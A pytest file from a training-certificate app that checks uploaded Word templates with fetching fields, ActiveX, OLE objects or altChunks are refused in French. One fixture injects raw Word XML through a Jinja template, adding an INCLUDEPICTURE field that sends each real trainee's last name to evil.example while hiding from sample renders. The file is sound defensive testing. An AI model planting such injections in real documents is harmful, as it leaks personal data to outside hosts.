"""Uploaded Word templates: fields that fetch or run something, ActiveX controls, OLE objects and altChunks are
refused in French, naming what was found; every document issued from a template would carry them to trainees and
funders. Ordinary fields and images stay accepted."""
import io
import os

import pytest
from werkzeug.datastructures import FileStorage

from tests.active_content import REFUSED, complex_field, harmless_template, in_part
from tests.certificate_course import completed_course, word_template
from training_app.documents import storage
from training_app.extensions import db
from training_app.models import IssuedCertificate
from training_app.services import ServiceError
from training_app.services import certificates as certificate_service


def upload(content: bytes, kind: str = "attestation"):
    return certificate_service.upload_template(kind, FileStorage(io.BytesIO(content), filename="modele.docx"))


@pytest.mark.parametrize("build, message", [case[1:] for case in REFUSED], ids=[case[0] for case in REFUSED])
def test_a_template_with_a_field_that_fetches_or_runs_or_an_embedded_object_is_refused(build, message):
    with pytest.raises(ServiceError) as refused:
        upload(build())
    assert refused.value.message.startswith(message), refused.value.message
    assert refused.value.field == "file" and certificate_service.template_in_use("attestation") is None


def test_ordinary_fields_and_an_embedded_image_are_accepted():
    template_record = upload(in_part("word/footer1.xml", complex_field("PAGE")))
    assert template_record.kind == "attestation"
    template_record = upload(harmless_template(), "realisation")
    db.session.commit()
    assert certificate_service.template_in_use("realisation").id == template_record.id


def test_the_shipped_templates_pass():
    for name in sorted(os.listdir(os.path.dirname(certificate_service.word.template_path("x")))):
        if name.endswith(".docx"):
            with open(certificate_service.word.template_path(name), "rb") as handle:
                content = handle.read()
            certificate_service.check_word_package(content)
            certificate_service.check_rendered(content)


TO_REAL_TRAINEES_ONLY = ("{% if trainee.last_name != 'Exemple' %}{{ '</w:t></w:r><w:r><w:fldChar w:fldCharType="
                         "\"begin\"/></w:r><w:r><w:instrText>INCLUDEPICTURE \"https://evil.example/{{ trainee.last_name"
                         " }}.png\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r><w:r><w:t>' | safe }}"
                         "{% endif %}")


def test_a_template_that_writes_a_field_for_real_trainees_only_issues_nothing():
    """The sample render at upload shows no field: each document issued is checked too."""
    course = completed_course(trainees=("Awa Diallo",))
    upload(word_template([TO_REAL_TRAINEES_ONLY, "{{ document.verification_code }}"]))
    db.session.commit()
    before = _stored_files()
    with pytest.raises(ServiceError) as refused:
        certificate_service.issue_for_session(course.session, unrecorded_confirmed=True)
    assert refused.value.message.startswith(
        "Le modèle « Attestation individuelle de fin de formation » ne peut pas être utilisé : Ce fichier contient "
        "un champ Word INCLUDEPICTURE (dans word/document.xml : « INCLUDEPICTURE \"https://evil.example/"), \
        refused.value.message
    db.session.rollback()
    assert db.session.scalar(db.select(db.func.count(IssuedCertificate.id))) == 0
    assert _stored_files() == before


def _stored_files() -> set[str]:
    return {os.path.join(folder, name) for folder, _dirs, names in os.walk(storage.root()) for name in names}

